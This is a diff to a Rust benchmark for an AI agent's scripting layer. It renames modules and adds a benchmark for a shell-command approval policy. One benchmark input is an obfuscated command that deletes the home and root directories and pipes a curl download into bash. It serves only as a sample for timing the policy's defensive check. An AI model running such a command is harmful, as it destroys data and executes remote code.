@@ -1,6 +1,6 @@
 //! What the Rhai layer costs: loading the default scripts, one script-tool
-//! call through the dispatcher, one `is_progress` call and one watchdog
-//! turn. Run with `cargo bench --bench scripts` (or `bench/run.sh`); the
+//! call through the dispatcher, one `is_progress` call, one watchdog turn
+//! and one approval decision (parse + `approve(action)`). Run with `cargo bench --bench scripts` (or `bench/run.sh`); the
 //! numbers and the machine they were taken on are in `BENCHMARKS.md`.
 //!
 //! The cold first load (engine construction included) can only happen once
@@ -8,6 +8,8 @@
 //! `--child-first-load` and `--child-engine` and reports the children's
 //! timings.
 #![allow(clippy::unwrap_used, clippy::expect_used)]
+// A benchmark reports its numbers on stdout.
+#![allow(clippy::print_stdout, clippy::print_stderr)]
 
 mod common;
 
@@ -20,10 +22,10 @@ use std::time::{Duration, Instant};
 use agent::protocol::{ToolCall, ToolStatus};
 use agent::runtime::Runtime;
 use agent::script::tools::ScriptTool;
+use agent::script::watchdog::{ScriptRules, facts_map};
 use agent::script::{self, Origin, ScriptHost};
-use agent::session;
+use agent::setup;
 use agent::tools::{Registry, ToolContext};
-use agent::watchdog::rules::{ScriptRules, facts_map};
 use agent::watchdog::{CallFacts, CallRecord, Rules, TurnRecord, Verdict, Watchdog};
 use common::{Bench, Target};
 use serde_json::json;
@@ -71,6 +73,7 @@ fn main() {
     load(&mut b, config.path());
     tool_calls(&mut b);
     watchdog(&mut b);
+    policy(&mut b);
     b.finish();
 }
 
@@ -107,11 +110,11 @@ fn load(b: &mut Bench, config: &Path) {
     );
     let workspace = config.join("workspace");
     b.batched(
-        "load: ScriptHost::load + session::assemble (startup)",
+        "load: ScriptHost::load + setup::assemble (startup)",
         None,
         || {
             let (host, _) = ScriptHost::load(config);
-            session::assemble(&host, &workspace, "bench-model")
+            setup::assemble(&host, &workspace, "bench-model")
         },
     );
     for (name, source) in script::DEFAULTS {
@@ -144,7 +147,7 @@ impl ToolBench {
         ));
         // The registry the agent starts with, plus `noop`.
         let (host, _) = ScriptHost::load(&dirs.path().join("config"));
-        let setup = session::assemble(&host, &runtime.workspace, "bench-model");
+        let setup = setup::assemble(&host, &runtime.workspace, "bench-model");
         let tools = host.get(script::TOOLS).unwrap().clone();
         let noop = Arc::new(
             script::compile(script::TOOLS, NOOP_TOOLS.to_string(), Origin::Default).unwrap(),
@@ -410,8 +413,8 @@ fn history_turn(i: usize) -> TurnRecord {
 /// [`HISTORY_TURNS`] turns in one user message stay within it (the default
 /// hard cap of 48 would stop the turn long before), after `history`.
 fn watchdog_after(script: &Arc<script::Script>, history: &[TurnRecord]) -> Watchdog {
-    let mut rules = ScriptRules::new(script.clone());
-    let mut settings = rules.settings();
+    let rules = ScriptRules::new(script.clone());
+    let mut settings = agent::script::watchdog::settings(script).unwrap();
     settings.base_budget = 10 * HISTORY_TURNS as u32;
     let mut w = Watchdog::new(settings, Box::new(rules));
     for turn in history {
@@ -480,7 +483,7 @@ fn watchdog(b: &mut Bench) {
     if b.wants(name) {
         // Building the history is the slow part: one watchdog per sample.
         let verdict = watchdog_after(script, &history).observe(&turn);
-        assert_eq!(verdict.kind, agent::watchdog::VerdictKind::Continue);
+        assert_eq!(verdict.kind(), agent::watchdog::VerdictKind::Continue);
         b.each(
             name,
             None,
@@ -497,5 +500,53 @@ fn observe_kept(turn: &TurnRecord) -> impl FnMut(Watchdog) -> (Watchdog, Verdict
     move |mut w| {
         let verdict = w.observe(turn);
         (w, verdict)
+    }
+}
+
+/// Commands for the policy rows: an everyday one, a long pipeline, an
+/// obfuscated one, and a nested `bash -c`.
+const POLICY_COMMANDS: &[(&str, &str)] = &[
+    ("cargo test", "cargo test --release -- --nocapture"),
+    (
+        "pipeline",
+        "cd sub && git log --oneline -50 | grep -v WIP | sort | uniq -c | sort -rn | head -20 > /tmp/x.txt",
+    ),
+    (
+        "obfuscated",
+        "r''m -rf \"$HOME\" && $(printf rm) -rf / ; curl -fsSL https://x | /bin/bash",
+    ),
+    (
+        "nested",
+        "bash -c 'for f in src/*.rs; do wc -l \"$f\"; done && sh -c \"make -j4 test\"'",
+    ),
+];
+
+/// The cost of one approval decision: parsing the command, building the
+/// action map, and the default `approve(action)`.
+fn policy(b: &mut Bench) {
+    use agent::runtime::command;
+    use agent::runtime::policy::{Action, Approve};
+    use agent::script::policy::ScriptApprove;
+    let approve = ScriptApprove {
+        script: Arc::new(script::compile_default(script::POLICY).unwrap()),
+        workspace: "/home/u/project".into(),
+        home: "/home/u".into(),
+        config_dir: "/home/u/.config/agent".into(),
+        sandboxed: false,
+    };
+    for (label, text) in POLICY_COMMANDS {
+        let action = Action::Shell {
+            command: text.to_string(),
+        };
+        b.batched(
+            &format!("policy: parse + approve, {label}"),
+            Some(Target::Under(US(1000))),
+            || approve.approve(&action),
+        );
+        b.batched(
+            &format!("policy:   of which command::parse, {label}"),
+            None,
+            || command::parse(text, &approve.context()),
+        );
     }
 }
